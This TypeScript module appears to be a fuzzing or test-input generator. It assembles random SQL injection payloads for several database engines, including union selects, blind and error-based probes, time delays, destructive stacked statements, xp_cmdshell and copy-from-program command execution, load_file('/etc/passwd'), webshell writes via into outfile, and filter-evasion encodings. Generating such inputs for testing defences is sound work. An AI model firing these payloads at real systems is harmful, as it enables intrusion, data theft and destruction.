import type { Random } from "../random.ts"
import { digits, type Grammar, hexDigits, hostName, identifier, mixCase, oneOf } from "./grammar.ts"

/**
 * Injections into SQL, written from the manuals of MySQL, PostgreSQL, SQL Server, Oracle and
 * SQLite: a value that leaves its context, a clause, and an ending that keeps the rest legal.
 */
export function sqlInjection(random: Random): string {
  if (random.chance(0.2)) return style(random, oneOf(random, PLAIN_FORMS))
  const quote = random.pick(["'", "'", "'", '"', "", "", "`", "')", "'))", '")', ")", "%'", "\\'"])
  const body = oneOf(random, BODIES)
  const joint = /^[;|]/.test(body) || random.chance(0.15) ? "" : " "
  if (body === "" && quote === "") return sqlInjection(random)
  const end = body === "" ? random.pick(["--", "#", "-- ", ";--", "/*", ""]) : ending(random, quote)
  return style(random, `${value(random)}${quote}${joint}${body}${end}`)
}

const PLAIN_FORMS: readonly Grammar[] = [
  shortForm,
  shortForm,
  loneExpression,
  columnProbe,
  numericForm,
  numericForm,
]

/** Behind a number no quote has to be closed: the first injections that anyone tries. */
function numericForm(random: Random): string {
  const columns = random.many(random.between(1, 4), () => column(random), random.pick([",", ", "]))
  const clause = random.pick([
    stacked(random),
    stacked(random),
    ` ${unionSelect(random)}`,
    ` union select ${columns} from ${table(random)}`,
    ` ${random.pick(["or", "and"])} ${condition(random)}`,
    `${random.pick(["; ", ";", " or ", " and "])}${delay(random)}`,
  ])
  return `${random.pick(["", "-"])}${random.below(10_000)}${random.pick(["", "", ")"])}${clause}${random.pick(["", "", "--", " -- ", "#"])}`
}

/** As little as changes what a quoted or a numeric context means: MySQL casts what is left of it. */
function shortForm(random: Random): string {
  const quote = random.pick(["'", "'", "'", '"'])
  const operator = random.pick([
    "-",
    "+",
    "*",
    "^",
    "&",
    "|",
    "%",
    "=",
    "<",
    ">",
    "<>",
    "||",
    "&&",
    " or ",
    " and ",
    " like ",
    " xor ",
    " div ",
  ])
  return oneOf(random, [
    () => `${quote}${operator}${quote}`,
    () => `${quote}${operator}${random.below(10)}${random.pick(["", "#", "--", "-- "])}`,
    () =>
      `${value(random)}${quote}${random.pick(["#", "--", "-- ", "/*", ";", ";--", "%23", "||'"])}`,
    () =>
      `${quote}or(${random.below(9)})${random.pick(["=", "like", ">", "<"])}(${random.below(9)})${random.pick(["#", "--", ""])}`,
    () => `${quote}=${quote}${quote}or${quote}`,
    () =>
      `${random.below(99)}${random.pick([" or ", " and ", "&&", "||"])}${random.pick(["true", "false", "1=1", "not 1", "null"])}`,
    () =>
      `${quote}||${quote}${random.pick(["1", "a", ""])}${quote}=${quote}${random.pick(["1", "a", ""])}`,
    () =>
      `${random.pick(["or", "and", "having", "where"])} ${condition(random)}${random.pick(["", "--", "#"])}`,
  ])
}

/** An expression or statement that is all of the value. */
function loneExpression(random: Random): string {
  return oneOf(random, [
    (r) => `(${scalarQuery(r)})`,
    scalarQuery,
    delay,
    errorProbe,
    blindProbe,
    (r) =>
      `(case when ${condition(r)} then ${literal(r)} else ${r.pick(["(select 1 union select 2)", "1/0", literal(r)])} end)`,
    (r) =>
      `${r.pick(["if", "iif"])}(${condition(r)},${r.pick(["1", `sleep(${r.between(1, 9)})`])},${r.pick(["0", "1/0"])})`,
    (r) =>
      `${r.between(1, 999)}${r.pick(["+", "-", "*"])}${r.pick(["len", "length", "char_length", "vsize", "posstr", "ascii", "bit_length"])}(${r.pick(["@@version", "chr(97)", "'a'", "user", "database()"])})${r.pick(["", `-${r.between(1, 99)}`])}`,
    (r) => stacked(r).slice(1),
    unionSelect,
  ])
}

/** Asks how many columns there are, or what a name means here. */
function columnProbe(random: Random): string {
  return oneOf(random, [
    (r) =>
      `${value(r)}${r.pick(["", "'", '"', ")", "')"])} order by ${r.between(1, 99)}${r.pick(["", "--", "#", "-- -"])}`,
    (r) =>
      `${value(r)}${r.pick(["", "'", ")"])} group by ${column(r)}${r.pick(["", " having 1=1"])}${r.pick(["", "--", "#"])}`,
    (r) => `${column(r)} ${r.pick(["asc", "desc"])},(${delay(r)})`,
    (r) => `${r.below(99)},(select ${r.below(9)} from pg_sleep(${r.between(1, 9)}))`,
    (r) =>
      `${value(r)}' or ${column(r)} ${r.pick(["is not null", "like '%", "like 'a%", "> 0", "<> ''"])}${r.pick(["", "--", "#"])}`,
    (r) =>
      `${value(r)}' and ${r.pick(["user()", "version()", "database()", "user_name()", "@@version"])} ${r.pick(["like 'a%", "regexp '^a", "='dbo'--", "is not null#"])}`,
    (r) => `${value(r)}' ${r.pick(["or", "and"])} (select ${literal(r)})=${literal(r)} or '`,
    (r) =>
      `${value(r)}' and ${r.pick(["is_srvrolemember('sysadmin')=1--", "rownum=1--", "row(1,1)>(select 1,2)#", "json_keys((select user()))#"])}`,
  ])
}

function value(random: Random): string {
  return oneOf(random, [
    () => "",
    () => "1",
    () => `-${random.between(1, 9999)}`,
    (r) => String(r.below(100_000)),
    identifier,
    (r) => r.pick(["admin", "test", "root", "user", "guest", "a", "x", "null"]),
    (r) => `${identifier(r)}@${hostName(r)}`,
    (r) => `${r.between(1, 99)}.${r.between(1, 99)}`,
  ])
}

const BODIES: readonly Grammar[] = [
  (r) => `${r.pick(["or", "or", "and", "||", "&&", "xor", "or not"])} ${condition(r)}`,
  (r) => `${r.pick(["or", "and"])} ${condition(r)}`,
  unionSelect,
  unionSelect,
  stacked,
  (r) => `${r.pick(["or", "and", ";", "||"])} ${delay(r)}`,
  (r) => `${r.pick(["and", "or"])} ${errorProbe(r)}`,
  (r) => `${r.pick(["order", "group"])} by ${r.between(1, 40)}`,
  (r) => `group by ${identifier(r)} having ${condition(r)}`,
  (r) => `and ${blindProbe(r)}`,
  (r) => `|| ${r.pick([scalarQuery, delay, stringExpression])(r)}`,
  (r) =>
    `into ${r.pick(["outfile", "dumpfile"])} '${r.pick(["/tmp/", "/var/www/html/", "c:/"])}${identifier(r)}.php'`,
  (r) => `limit 1,1 procedure analyse(${errorProbe(r)},1)`,
  (r) => `, (${scalarQuery(r)})`,
  (r) => `like '%${r.pick(["", "a", "admin"])}%'`,
  (r) => `and ${r.between(1, 9)}=${r.pick(["cast", "convert"])}(${scalarQuery(r)} as int)`,
  () => "",
]

function literal(random: Random): string {
  return oneOf(random, [
    (r) => String(r.between(0, 9999)),
    (r) => `'${r.pick(["a", "x", "1", "", identifier(r)])}'`,
    (r) => `"${r.pick(["a", "x", "1", "", identifier(r)])}"`,
    (r) => `0x${hexDigits(r, 2 * r.between(1, 8))}`,
    (r) => `char(${r.many(r.between(1, 5), () => String(r.between(32, 122)), ",")})`,
  ])
}

function condition(random: Random): string {
  const same = literal(random)
  return oneOf(random, [
    () => `${same}=${same}`,
    () => `${same} = ${same}`,
    () => `${same} like ${same}`,
    () => `'${random.pick(["1", "a", "x"])}'='${random.pick(["1", "a", "x"])}`,
    (r) => `${r.between(2, 99)}>${r.between(0, 1)}`,
    (r) => `${r.between(1, 999)}${r.pick(["<>", "!=", "<", ">=", "="])}${r.between(1, 999)}`,
    () => `${same} in (${same})`,
    (r) => `${r.between(1, 9)} between 0 and ${r.between(10, 99)}`,
    (r) => r.pick(["true", "1", "1 is not null", "not false", "''=''", "1=1", "'1'='1'"]),
    (r) => `exists(select ${r.pick(["1", "*", "null"])} from ${table(r)})`,
    (r) => `${column(r)} is ${r.pick(["", "not "])}null`,
    (r) => `(${condition(r)})`,
    (r) => `${condition(r)} ${r.pick(["and", "or"])} ${condition(r)}`,
  ])
}

function table(random: Random): string {
  const known = `users information_schema.tables information_schema.columns mysql.user sysobjects dual
    sqlite_master all_tables pg_catalog.pg_tables pg_shadow v$version syscolumns members accounts
    customers admin msysobjects master..sysdatabases sysibm.sysdummy1 user_tables orders`
  return random.chance(0.75) ? random.pick(known.split(/\s+/)) : identifier(random)
}

function column(random: Random): string {
  const known = `username password passwd email table_name column_name schema_name name id login
    user_id card_number pass secret banner sql host token`
  return random.chance(0.8) ? random.pick(known.split(/\s+/)) : identifier(random)
}

function stringExpression(random: Random): string {
  return oneOf(random, [
    (r) => `concat(${literal(r)},${column(r)},${literal(r)})`,
    (r) => `group_concat(${column(r)},0x3a,${column(r)})`,
    (r) => `concat_ws(${literal(r)},${column(r)},${column(r)})`,
    (r) => `${column(r)}||${literal(r)}||${column(r)}`,
    (r) =>
      r.pick([
        "@@version",
        "version()",
        "database()",
        "user()",
        "current_user",
        "@@datadir",
        "db_name()",
        "sqlite_version()",
        "@@hostname",
        "system_user",
      ]),
    (r) => `chr(${r.between(65, 122)})||chr(${r.between(65, 122)})||chr(${r.between(65, 122)})`,
    (r) => `load_file(${r.pick(["'/etc/passwd'", "0x2f6574632f706173737764", "'c:/boot.ini'"])})`,
    (r) => `hex(${column(r)})`,
    column,
  ])
}

function scalarQuery(random: Random): string {
  const tail = random.pick(["", "", ` where ${condition(random)}`, ` limit ${random.below(5)},1`])
  return `select ${stringExpression(random)} from ${table(random)}${tail}`
}

function unionSelect(random: Random): string {
  const cell: Grammar = (r) =>
    r.chance(0.75)
      ? r.pick(["null", String(r.between(1, 30)), "1", "''", "@@version"])
      : stringExpression(r)
  const cells = random.many(random.between(1, 12), () => cell(random), random.pick([",", ", "]))
  const from = random.chance(0.5) ? ` from ${table(random)}` : ""
  const where = random.chance(0.2) ? ` where ${condition(random)}` : ""
  return `union ${random.pick(["", "", "all ", "distinct "])}select ${cells}${from}${where}`
}

function stacked(random: Random): string {
  const statement = oneOf(random, [
    (r) => `drop ${r.pick(["table", "database", "view"])} ${table(r)}`,
    (r) =>
      `insert into ${table(r)} (${column(r)},${column(r)}) values (${literal(r)},${literal(r)})`,
    (r) => `update ${table(r)} set ${column(r)}=${literal(r)} where ${condition(r)}`,
    (r) => `delete from ${table(r)}${r.pick(["", ` where ${condition(r)}`])}`,
    (r) =>
      `exec${r.pick(["", "ute"])} ${r.pick(["master..", "master.dbo.", ""])}xp_cmdshell '${r.pick(["dir", "whoami", "ping ", "net user "])}${r.pick(["", hostName(r)])}'`,
    (r) =>
      `exec sp_${r.pick(["makewebtask", "addlogin", "configure", "executesql"])} '${identifier(r)}'`,
    (r) =>
      `declare @${identifier(r)} varchar(${r.between(10, 8000)}) set @q=0x${hexDigits(r, 16)} exec(@q)`,
    (r) => `create table ${identifier(r)} (${identifier(r)} text)`,
    (r) => `copy ${identifier(r)} from program '${r.pick(["id", "whoami", "ls"])}'`,
    (r) => `shutdown${r.pick(["", " with nowait"])}`,
    (r) => `truncate table ${table(r)}`,
    delay,
    scalarQuery,
    (r) => `begin ${delay(r)}; end`,
  ])
  return `;${random.pick(["", " "])}${statement}${random.pick(["", ";"])}`
}

function delay(random: Random): string {
  const seconds = random.between(1, 30)
  return oneOf(random, [
    () => `sleep(${seconds})`,
    () => `(select sleep(${seconds}))`,
    (r) => `(select(0)from(select(sleep(${seconds})))${identifier(r)})`,
    (r) =>
      `benchmark(${r.pick(["5000000", "10000000", "1e7"])},${r.pick(["md5(1)", "sha1(1)", "encode('a','b')"])})`,
    () => `pg_sleep(${seconds})`,
    () => `(select ${random.between(1, 9999)} from pg_sleep(${seconds}))`,
    () => `waitfor delay '0:0:${seconds}'`,
    () => `dbms_pipe.receive_message(('${random.pick(["a", "xyz"])}'),${seconds})`,
    () => "dbms_lock.sleep(5)",
    () => `if(${condition(random)},sleep(${seconds}),0)`,
    () => `case when ${condition(random)} then pg_sleep(${seconds}) else pg_sleep(0) end`,
    () => "like('abcdefg',upper(hex(randomblob(100000000/2))))",
    () => `elt(${condition(random)},sleep(${seconds}))`,
  ])
}

function errorProbe(random: Random): string {
  const number = random.between(1000, 9999)
  return oneOf(random, [
    () => `extractvalue(${number},concat(0x5c,(${scalarQuery(random)})))`,
    () => `updatexml(1,concat(0x7e,(${stringExpression(random)})),1)`,
    () =>
      `(select count(*),concat((${scalarQuery(random)}),floor(rand(0)*2))x from information_schema.tables group by x)`,
    () => `${number}=convert(int,(${scalarQuery(random)}))`,
    () => `${number}=cast((${scalarQuery(random)}) as numeric)`,
    () => `${number}=utl_inaddr.get_host_address((${scalarQuery(random)}))`,
    () => `${number}=ctxsys.drithsx.sn(${number},(${scalarQuery(random)}))`,
    () => `exp(~(select*from(${scalarQuery(random)})x))`,
    () => `gtid_subset((${stringExpression(random)}),${number})`,
    () =>
      `(select ${number} from(select count(*),concat(${literal(random)},floor(rand(0)*2))x from information_schema.plugins group by x)a)`,
  ])
}

function blindProbe(random: Random): string {
  const position = random.between(1, 30)
  return oneOf(random, [
    (r) =>
      `${r.pick(["substring", "substr", "mid"])}((${scalarQuery(r)}),${position},1)='${r.pick(["a", "s", "5"])}'`,
    (r) =>
      `${r.pick(["ascii", "ord", "unicode"])}(${r.pick(["substring", "substr", "mid"])}((${stringExpression(r)}),${position},1))${r.pick([">", "<", "="])}${r.between(32, 127)}`,
    (r) => `length(${stringExpression(r)})${r.pick(["=", ">", "<"])}${position}`,
    (r) => `(select count(*) from ${table(r)})${r.pick([">", "="])}${r.below(9)}`,
    (r) =>
      `(select case when (${condition(r)}) then ${literal(r)} else ${r.pick(["1/0", "null", literal(r)])} end)`,
    (r) => `if(${condition(r)},${literal(r)},${literal(r)})`,
    (r) => `${column(r)} rlike (select (case when (${condition(r)}) then 1 else 0x28 end))`,
    (r) => `${column(r)} regexp '^[${r.pick(["a-f", "0-9", "a-z"])}]'`,
    (r) => `make_set(${r.between(1, 999)}=${r.between(1, 999)},${r.between(1, 999)})`,
  ])
}

function ending(random: Random, quote: string): string {
  const mark = quote.includes('"') ? '"' : quote.includes("'") ? "'" : ""
  return oneOf(random, [
    () =>
      random.pick([
        "--",
        "-- ",
        "-- -",
        "--+",
        "#",
        ";--",
        "/*",
        ";#",
        "-- ",
        ";%00",
        "%23",
        "--%20",
      ]),
    () => "",
    () =>
      mark === ""
        ? ""
        : ` and ${mark}${random.pick(["1", "a"])}${mark}=${mark}${random.pick(["1", "a"])}`,
    (r) => ` -- ${identifier(r)}`,
    (r) => (r.chance(0.5) ? ` and ${mark}${digits(r, 2)}` : `${mark}`),
  ])
}

/** The same statement as attackers' tools write it: case, blanks, comments. */
function style(random: Random, text: string): string {
  const cased = oneOf(random, [
    () => text,
    () => text,
    () => text.toUpperCase(),
    () => mixCase(random, text),
  ])
  if (random.chance(0.65)) return cased
  const blank = random.pick([
    "/**/",
    "+",
    "%20",
    "\t",
    "%0a",
    "  ",
    "%09",
    "/*x*/",
    "%0d%0a",
    "\n",
    "%a0",
  ])
  const spaced = cased.replaceAll(" ", blank)
  if (random.chance(0.85)) return spaced
  return spaced.replace(/\b(union|select|from|where|and|or)\b/gi, "/*!50000$1*/")
}
